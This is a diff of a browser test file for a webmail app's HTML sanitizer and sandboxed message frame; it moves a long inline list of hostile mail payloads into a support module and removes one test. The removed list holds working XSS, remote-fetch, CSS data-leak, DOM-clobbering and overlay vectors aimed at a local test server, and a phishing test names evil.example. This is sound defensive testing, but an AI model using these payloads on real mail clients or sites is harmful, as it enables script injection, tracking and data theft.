@@ -2,6 +2,7 @@ import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { openAt, sharePage } from '#tests/support/borrow-page.ts';
 import { generateAddress, sendBySmtp } from '#tests/support/home-page.ts';
+import { attacks } from '#tests/support/mail-attacks.ts';
 import { setUpSite } from '#tests/support/site.ts';
 import { type Stranger, showUnprotected, startStranger } from '#tests/support/stranger.ts';
 
@@ -11,46 +12,6 @@ beforeAll(async () => {
   stranger = await startStranger();
 });
 afterAll(() => stranger?.close());
-
-const script =
-  "try{top.owned=1}catch(e){};try{parent.postMessage('owned','*')}catch(e){};document.title='owned'";
-
-/** Everything a mail could try, as it would arrive without a sanitizer. */
-const attacks = (url: string) => `
-<script>${script};fetch('${url}/fetch');new Image().src='${url}/image';navigator.sendBeacon('${url}/beacon')</script>
-<script src="${url}/script.js"></script><script type="module">import '${url}/module.js'</script>
-<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}"><link rel="prefetch" href="${url}/prefetch">
-<link rel="preload" as="image" href="${url}/preload"><link rel="modulepreload" href="${url}/modulepreload">
-<link rel="stylesheet" href="${url}/css"><link rel="icon" href="${url}/icon"><link rel="manifest" href="${url}/manifest">
-<link rel="import" href="${url}/import"><base href="${url}/base/"><meta http-equiv="refresh" content="0;url=${url}/refresh">
-<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b">
-<style>
-@import "${url}/css-import"; @font-face{font-family:x;src:url(${url}/font)} *{font-family:x}
-body{background:url(${url}/css-background);cursor:url(${url}/cursor),auto;list-style-image:url(${url}/list)}
-p::after{content:url(${url}/content)} p{mask:url(${url}/mask);filter:url(${url}/filter#a);border-image:url(${url}/border)}
-p{background:image-set("${url}/set" 1x);shape-outside:url(${url}/shape)}
-input[value^="s"]{background:url(${url}/leak-s)} a:visited{background:url(${url}/visited)}
-html,body,div.over{position:fixed!important;inset:-5000px!important;z-index:2147483647!important;background:red!important}
-</style>
-<body background="${url}/body" onload="${script}" onpageshow="${script}" onfocus="${script}">
-<img src="${url}/img" onerror="${script}"><img srcset="${url}/srcset 2x, ${url}/srcset3 3x" src="data:,x" onerror="${script}">
-<picture><source srcset="${url}/source"><img src="${url}/picture" loading="lazy"></picture><input type="image" src="${url}/input">
-<video src="${url}/video" poster="${url}/poster" autoplay onloadstart="${script}"></video><audio src="${url}/audio" autoplay></audio>
-<track src="${url}/track"><iframe src="${url}/iframe"></iframe><iframe srcdoc="<script>${script}</script>"></iframe>
-<iframe src="javascript:${script}"></iframe><frameset><frame src="${url}/frame"></frameset><portal src="${url}/portal"></portal>
-<object data="${url}/object"></object><embed src="${url}/embed"><applet code="${url}/applet"></applet>
-<svg onload="${script}"><script>${script}</script><image href="${url}/svg"/><use href="${url}/use#a"/><feImage href="${url}/feimage"/>
-<animate attributeName="href" values="javascript:${script}"/><foreignObject><iframe src="${url}/foreign"></iframe></foreignObject></svg>
-<math><mtext><mglyph><style><img src=x onerror="${script}"></style></mglyph></mtext><maction actiontype="statusline" xlink:href="javascript:${script}">m</maction></math>
-<form action="${url}/form" id="auto"><input name="secret" value="secret" autofocus onfocus="${script}"><button id="submit">Send</button></form>
-<form id="parent"></form><img name="body"><a id="document" name="cookie"></a><form name="getElementById"></form>
-<table background="${url}/table"><tr><td background="${url}/td">t</td></tr></table><details open ontoggle="${script}"><summary>d</summary></details>
-<marquee onstart="${script}">m</marquee><div class="over" style="background:url(${url}/inline)">over everything</div>
-<template><img src="${url}/template"></template><noscript><img src="${url}/noscript"></noscript>
-<a id="js" href="javascript:${script}">js</a><a id="data" href="data:text/html,<script>${script}</script>">data</a>
-<a id="top" href="${url}/top" target="_top">top</a><a id="parent-link" href="${url}/parent" target="_parent">parent</a>
-<a id="self" href="${url}/self" target="_self" ping="${url}/ping">self</a>
-<p>END OF MAIL</p>`;
 
 /** Waits until the same attacks have reached a server from a page without protection. */
 const untilAttacksWork = () =>
@@ -95,17 +56,6 @@ const outside = (page: Page) =>
     return [...parts].map((one) => one.outerHTML.replaceAll(/\\d+[smh]\\b|\\d+:\\d+|\\(\\d+\\)/g, ''));
   })()`) as Promise<string[]>;
 
-// First, while the browser has no connection to the stranger that it could use again.
-it('a mail that tries everything does not even open a connection', async () => {
-  const { page } = visit;
-  const html = `<p>PLACE</p>${attacks(stranger.url)}`;
-  await sendBySmtp(site.app.smtpPort, { to, subject: 'Through the sanitizers', html });
-  await page.getByRole('button', { name: /Through the sanitizers/ }).click();
-  await page.frameLocator('iframe[title="Message"]').getByText('PLACE').waitFor();
-  await untilAttacksWork();
-  expect(stranger.seen).toEqual({ requests: [], connections: 0 });
-});
-
 it('a deceptive mail shows the real host of its links and the real address of its sender', async () => {
   const { page } = visit;
   await sendBySmtp(site.app.smtpPort, {
@@ -122,9 +72,9 @@ it('a deceptive mail shows the real host of its links and the real address of it
   const links = await page.locator('details a[target=_blank]').allTextContents();
   expect(links[0]).toMatch(/^https:\/\/xn--/);
   expect(links[1]).toContain('evil.example');
-  expect(
-    await page.getByText("The link text doesn't match its destination.").count(),
-  ).toBeGreaterThanOrEqual(2);
+  expect(await page.getByText("The link text doesn't match its destination.").count()).toBeGreaterThanOrEqual(
+    2,
+  );
   expect(await page.getByText('<mallory@evil.example>').isVisible()).toBe(true);
   const shown = await page.locator('main').textContent();
   expect(shown).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
@@ -140,7 +90,6 @@ it('the same mail in the frame, without a sanitizer, runs no script, requests no
   await page.evaluate(
     "addEventListener('message', ({ data }) => { if (data === 'owned') window.owned = 1 })",
   );
-  stranger.forget();
   const { around } = await showUnsanitized(page, attacks(stranger.url));
   await untilAttacksWork();
   const frame = page.frames().find((one) => one.parentFrame() === page.mainFrame())!;
@@ -158,7 +107,7 @@ it('the same mail in the frame, without a sanitizer, runs no script, requests no
   await showUnsanitized(page, attacks(stranger.url), { remote: true });
   await untilAttacksWork();
   // Chromium connects for a nested frame before it reads the policy, but sends no request. The sanitizers remove
-  // nested frames: see the first test.
+  // nested frames: see hostile-mail.test.ts.
   expect(stranger.seen.requests).toEqual(['/consented']);
   expect(dialogs).toBe(0);
   expect(await page.evaluate("'owned' in window")).toBe(false);
